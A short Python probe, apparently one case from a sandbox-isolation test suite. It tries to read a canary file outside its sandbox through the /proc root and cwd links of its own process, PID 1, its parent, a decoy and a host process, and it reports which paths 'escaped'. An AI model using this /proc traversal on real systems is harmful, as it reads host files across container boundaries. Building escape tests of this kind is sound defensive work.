# class: leak
# Reads a file outside through the root that the kernel shows of each process.
import os
ok=[]
for p in ("self","1",os.getppid(),CANARY["decoy_pid"],CANARY.get("host_pid",1),"thread-self"):
    for w in ("root","cwd"):
        try:
            if "canary" in open("/proc/%s/%s/%s"%(p,w,"../"*9+CANARY["file"].lstrip("/"))).read(): ok.append((p,w))
        except OSError: pass
print("ESCAPED %s"%ok if ok else "none")
